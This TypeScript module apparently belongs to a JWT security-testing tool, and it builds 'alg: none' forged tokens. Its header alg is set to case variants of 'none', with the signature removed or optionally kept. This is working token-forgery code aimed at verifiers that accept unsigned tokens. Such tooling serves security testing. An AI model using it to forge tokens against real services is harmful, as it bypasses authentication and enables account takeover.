import { KEEP_SIGNATURE_SUFFIX, NONE_SPELLINGS } from './attack-catalogue';
import { assembleToken, succeed, type AttackParts } from './attack-parts';
import type { AttackResult } from './attack-result';

/**
 * Returns the unsecured token with `alg` set to a spelling of `none` (`none`, `None`, `NONE`,
 * `nOnE`, from the variant id), and either no signature (RFC 7518 §3.6) or, for a `+signature`
 * variant, `signatureSegment` kept (a verifier that skips checks for `none` may still want one).
 * Refuses a `+signature` variant without a segment to keep.
 */
export function buildAlgNoneAttack(parts: AttackParts, variantId: string, signatureSegment: string): AttackResult {
  const keep = variantId.endsWith(KEEP_SIGNATURE_SUFFIX);
  const spelling = NONE_SPELLINGS.find((candidate) => candidate === variantId.replace(KEEP_SIGNATURE_SUFFIX, '')) ?? 'none';
  if (keep && signatureSegment === '') return { ok: false, error: { code: 'attack-signature-missing', field: 'key', params: {} } };
  const token = assembleToken({ ...parts.header, alg: spelling }, parts.payloadSegment, keep ? signatureSegment : '');
  return succeed('alg-none', keep ? `${spelling}${KEEP_SIGNATURE_SUFFIX}` : spelling, token, parts);
}
